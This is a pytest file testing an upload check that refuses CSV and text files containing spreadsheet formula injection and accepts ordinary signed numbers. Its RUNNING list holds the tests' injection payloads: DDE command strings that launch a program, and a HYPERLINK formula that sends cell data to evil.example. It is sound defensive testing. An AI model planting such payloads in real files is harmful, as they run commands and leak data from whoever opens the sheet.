"""A table that a spreadsheet would run is refused; numbers with a sign are only numbers."""

import pytest

from support import files
from tests.files.made import upload

RUNNING = [
    "=cmd|' /C calc'!A0",
    "a,b\n1,=cmd|' /C calc'!A0",
    "a;b\n1;+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    'a,"=HYPERLINK(""https://evil.example?x=""&A1,""open"")"',
    "a,\t=WEBSERVICE(A1)",
    "\ufeff=IMPORTXML(A1)",
]
QUIET = [
    "amount,fee\n-5.00,+0.10",
    "phone\n+49 30 1234567",
    "what\n- fees (monthly)",
    "a,b\n=A1+B1,@carl",
    "note\nsum(x) | all",
]


@pytest.mark.parametrize("words", RUNNING)
def test_a_cell_that_calls_something_is_refused_with_the_way_out(words):
    with pytest.raises(files.FileRefused, match="Print the table as a PDF"):
        files.check(upload("list.csv", words.encode()))


@pytest.mark.parametrize("words", QUIET)
def test_numbers_and_names_with_a_sign_are_taken(words):
    assert files.check(upload("list.csv", words.encode()))


def test_of_plain_texts_only_lines_that_start_a_program_are_refused():
    with pytest.raises(files.FileRefused, match="Print the table as a PDF"):
        files.check(upload("list.txt", b"=cmd|' /C calc'!A0"))
    assert files.check(upload("log.txt", b"- f(x) was called, a | b"))
